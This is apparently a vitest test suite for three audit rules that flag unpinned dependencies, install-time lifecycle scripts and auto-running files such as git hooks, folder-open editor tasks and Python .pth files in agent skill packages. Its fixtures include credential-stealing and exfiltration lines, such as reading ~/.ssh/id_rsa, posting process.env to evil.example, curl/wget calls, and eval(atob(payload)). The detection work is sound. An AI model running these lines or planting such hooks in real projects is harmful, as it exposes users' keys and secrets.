import { describe, expect, test } from "vitest";
import { foundBy, type SkillTexts } from "../../test/audited-skill.ts";
import { unpinnedDependency } from "./aud170-unpinned-dependency.ts";
import { lifecycleScript } from "./aud171-lifecycle-script.ts";
import { autoRunFile } from "./aud172-auto-run-file.ts";

const commit = "9f8e7d6c5b4a39281706f5e4d3c2b1a098765432";
const lines = (...texts: string[]) => texts.join("\n");

describe("AUD170 unpinned-dependency", () => {
  const packaged = (dependencies: object) => JSON.stringify({ name: "x", dependencies }, null, 2);
  test.each<[string, SkillTexts, string[]]>([
    ["any version", { "package.json": packaged({ lodash: "*", zod: "^4.0.0" }) }, ["package.json:4 medium"]],
    ["the latest", { "package.json": packaged({ lodash: "latest" }) }, ["package.json:4 medium"]],
    [
      "a repository",
      { "package.json": packaged({ x: "git+https://github.com/a/x.git#main" }) },
      ["package.json:4 medium"],
    ],
    [
      "a repository, in short",
      { "package.json": packaged({ x: "evil/x" }), "package-lock.json": "{}" },
      ["package.json:4 medium"],
    ],
    ["an archive", { "package.json": packaged({ x: "https://host/x.tgz" }) }, ["package.json:4 medium"]],
    [
      "no version for Python",
      { "requirements.txt": lines("requests", "rich==13.0  # pinned", "click ; python_version > '3.9'") },
      ["requirements.txt:1 medium", "requirements.txt:3 medium"],
    ],
    [
      "another index",
      { "requirements.txt": "--extra-index-url https://evil.example/simple\nx==1" },
      ["requirements.txt:1 medium"],
    ],
    [
      "a repository for Python",
      { "requirements.txt": "x @ git+https://github.com/a/x@main" },
      ["requirements.txt:1 medium"],
    ],
    [
      "a project of Python",
      { "pyproject.toml": lines("[project]", "dependencies = [", '  "requests",', '  "rich>=13",', "]") },
      ["pyproject.toml:3 medium"],
    ],
    [
      "a tool server",
      {
        ".mcp.json": JSON.stringify(
          { mcpServers: { a: { command: "npx", args: ["-y", "some-mcp"] } } },
          null,
          1,
        ),
      },
      [".mcp.json:7 medium"],
    ],
    [
      "an instruction",
      { "SKILL.md": "```sh\npip install git+https://github.com/acme/tool\n```" },
      ["SKILL.md:2 medium"],
    ],
  ])("%s is found", async (_, files, expected) => {
    expect(await foundBy(unpinnedDependency, files)).toEqual(expected);
  });

  test.each<[string, SkillTexts]>([
    [
      "ranges of versions",
      { "package.json": packaged({ a: "^1.0.0", b: "~2.1.0", c: "1.x", d: "workspace:*", e: "file:../e" }) },
    ],
    ["what a lock file pins", { "package.json": packaged({ a: "*" }), "package-lock.json": "{}" }],
    ["a commit", { "package.json": packaged({ x: `github:a/x#${commit}` }) }],
    [
      "pinned and bounded",
      {
        "requirements.txt": lines(
          "# comment",
          "",
          "a==1.0",
          "b>=2",
          "c~=3.1",
          "-r other.txt",
          "-e .",
          `d @ git+https://h/d@${commit}`,
        ),
      },
    ],
    ["pinned by another tool", { "requirements.txt": "requests", "uv.lock": "" }],
    [
      "names of an instruction",
      {
        "SKILL.md": "```sh\npip install pypdf reportlab\nnpm install -g docx\nnpx -y playwright install\n```",
      },
    ],
    [
      "an address that is not a package",
      {
        "SKILL.md": "```sh\nnpx pa11y http://localhost:3000\nnpx playwright codegen https://example.com\n```",
      },
    ],
    ["a placeholder address", { "SKILL.md": "```sh\nuv add git+https://github.com/user/repo.git\n```" }],
    [
      "a pinned tool server",
      {
        ".mcp.json": JSON.stringify({
          mcpServers: { a: { command: "npx", args: ["-y", "@acme/some-mcp@1.2.3"] } },
        }),
      },
    ],
    ["a dependency's own", { "node_modules/a/package.json": packaged({ b: "*" }) }],
    ["what is not JSON", { "package.json": "{ dependencies: { a: '*' } }" }],
  ])("%s: no finding", async (_, files) => {
    expect(await foundBy(unpinnedDependency, files)).toEqual([]);
  });
});

describe("AUD171 lifecycle-script", () => {
  const scripts = (list: object) => JSON.stringify({ scripts: list }, null, 1);
  test.each<[string, SkillTexts, string[]]>([
    [
      "npm",
      { "package.json": scripts({ test: "x", postinstall: "node setup.js" }) },
      ["package.json:4 medium"],
    ],
    [
      "npm before and for git",
      { "package.json": scripts({ preinstall: "a", prepare: "b" }) },
      ["package.json:3 medium", "package.json:4 medium"],
    ],
    [
      "composer",
      { "composer.json": scripts({ "post-install-cmd": ["php x.php"] }) },
      ["composer.json:3 medium"],
    ],
    [
      "Python",
      { "setup.py": "from setuptools import setup\nsetup(name='x', cmdclass={'install': Mine})" },
      ["setup.py:2 medium"],
    ],
    [
      "Python's build back-end",
      { "pyproject.toml": '[build-system]\nbackend-path = ["."]' },
      ["pyproject.toml:2 medium"],
    ],
    ["Rust", { "build.rs": 'fn main() { Command::new("sh"); }' }, ["build.rs:1 medium"]],
  ])("%s is found", async (_, files, expected) => {
    expect(await foundBy(lifecycleScript, files)).toEqual(expected);
  });

  test.each<[string, SkillTexts]>([
    [
      "scripts one calls by name",
      {
        "package.json": scripts({
          test: "x",
          build: "y",
          prepublishOnly: "z",
          postversion: "w",
          prepack: "v",
        }),
      },
    ],
    [
      "a plain setup.py",
      { "setup.py": "from setuptools import setup\nsetup(name='x', version='1')\n# cmdclass = {}" },
    ],
    ["a plain build.rs", { "build.rs": 'fn main() { println!("cargo:rerun-if-changed=x"); }' }],
    ["a dependency's own", { "node_modules/a/package.json": scripts({ install: "node-gyp rebuild" }) }],
    ["a file of another name", { "example.package.json": scripts({ postinstall: "x" }) }],
  ])("%s: no finding", async (_, files) => {
    expect(await foundBy(lifecycleScript, files)).toEqual([]);
  });
});

describe("AUD172 auto-run-file", () => {
  test.each<[string, SkillTexts, string[]]>([
    ["a git hook", { ".git/hooks/post-checkout": "#!/bin/sh\nmake" }, [".git/hooks/post-checkout:2 high"]],
    ["a hook of husky", { ".husky/pre-commit": "npm test" }, [".husky/pre-commit:1 high"]],
    ["git's own settings", { ".git/config": "[core]\n\tfsmonitor = ./x.sh\n" }, [".git/config:2 high"]],
    [
      "a task at opening",
      { ".vscode/tasks.json": '{"tasks":[{"command":"./x","runOptions":{"runOn": "folderOpen"}}]}' },
      [".vscode/tasks.json:1 high"],
    ],
    [
      "hooks of the agent's host",
      {
        ".claude/settings.json": '{"hooks":{"Stop":[{"hooks":[{"type":"command",\n"command": "./x.sh"}]}]}}',
      },
      [".claude/settings.json:2 high"],
    ],
    [
      "hooks of a plug-in",
      { "hooks/hooks.json": '{"hooks":[{"command": "x"}]}' },
      ["hooks/hooks.json:1 high"],
    ],
    ["npm's settings", { ".npmrc": "save-exact=true\nnode-options=--require ./x.js" }, [".npmrc:2 high"]],
    ["another registry", { ".npmrc": "registry=https://evil.example/" }, [".npmrc:1 high"]],
    ["what pnpm runs", { ".pnpmfile.cjs": "module.exports = {}" }, [".pnpmfile.cjs:1 high"]],
    ["what Python runs at its start", { "sitecustomize.py": "import os" }, ["sitecustomize.py:1 high"]],
    ["a line that Python runs at its start", { "x.pth": "import os; os.system('x')" }, ["x.pth:1 high"]],
    [
      "a configuration that is a program",
      { ".eslintrc.js": "module.exports = {}" },
      [".eslintrc.js:1 medium"],
    ],
    [
      "the same, reaching out",
      { ".eslintrc.cjs": "fetch('https://evil.example/x')" },
      [".eslintrc.cjs:1 high"],
    ],
    ["what pytest loads first", { "tests/conftest.py": "import pytest" }, ["tests/conftest.py medium"]],
    [
      "a command of pre-commit",
      { ".pre-commit-config.yaml": "repos:\n- repo: local\n  hooks:\n  - entry: ./x.sh" },
      [".pre-commit-config.yaml:4 medium"],
    ],
  ])("%s is found", async (_, files, expected) => {
    expect(await foundBy(autoRunFile, files)).toEqual(expected);
  });

  test.each([
    ["reads keys", "src/a.test.js", "const key = readFileSync(homedir() + '/.ssh/id_rsa')"],
    ["takes the environment", "a.spec.ts", "fetch(url, { body: JSON.stringify(process.env) })"],
    ["reaches the network", "tests/test_a.py", "requests.post('https://evil.example/x', json=data)"],
    ["fetches by a program", "test_a.py", "subprocess.run(['curl', 'https://evil.example'])"],
    ["runs what it decodes", "__tests__/a.js", "eval(atob(payload))"],
    ["does so in what pytest loads first", "conftest.py", "os.system('wget evil.example')"],
  ])("a test that %s is high", async (_, file, text) => {
    expect(await foundBy(autoRunFile, { [file]: `// one\n${text}\n` })).toEqual([`${file}:2 high`]);
  });

  test("ordinary tests are one low line together", async () => {
    const files = {
      "tests/test_a.py": "def test_a():\n    subprocess.run([sys.executable, 'run.py'])",
      "tests/test_b.py": "requests.get('http://localhost:1/')",
      "src/c.test.ts": "expect(process.env.HOME).toBe('x')",
      "src/d_test.go": "package d",
    };

    expect(await foundBy(autoRunFile, files)).toEqual(["tests/test_a.py low"]);
  });

  test.each<[string, SkillTexts]>([
    ["a mention of tests", { "SKILL.md": "Run `pytest tests/` and `npm test`; see conftest.py" }],
    ["cases of an evaluation", { "tests/basic.eval.json": "{}" }],
    ["samples that git puts there", { ".git/hooks/pre-commit.sample": "#!/bin/sh\nexit 1" }],
    [
      "git's usual settings",
      { ".git/config": '[core]\n\tbare = false\n[remote "origin"]\n\turl = https://github.com/a/b\n' },
    ],
    ["a task that somebody starts", { ".vscode/tasks.json": '{"tasks":[{"command":"make"}]}' }],
    ["settings of an editor's looks", { ".vscode/settings.json": '{"editor.tabSize": 2}' }],
    ["permissions of the agent", { ".claude/settings.json": '{"permissions":{"allow":["Read"]}}' }],
    ["harmless settings of npm", { ".npmrc": "registry=https://registry.npmjs.org/\nsave-exact=true" }],
    [
      "a configuration that is data",
      {
        ".eslintrc.json": "{}",
        "pytest.ini": "[pytest]\ntestpaths = tests",
        "setup.cfg": "[metadata]\nname = x",
      },
    ],
    ["a Makefile", { Makefile: "test:\n\tpytest" }],
    ["tests of a dependency", { "node_modules/a/b.test.js": "fetch('https://evil.example')" }],
    ["names that only look alike", { "latest.js": "x", "contest.py": "x", "spec.md": "x", "test.py": "x" }],
  ])("%s: no finding", async (_, files) => {
    expect(await foundBy(autoRunFile, files)).toEqual([]);
  });
});
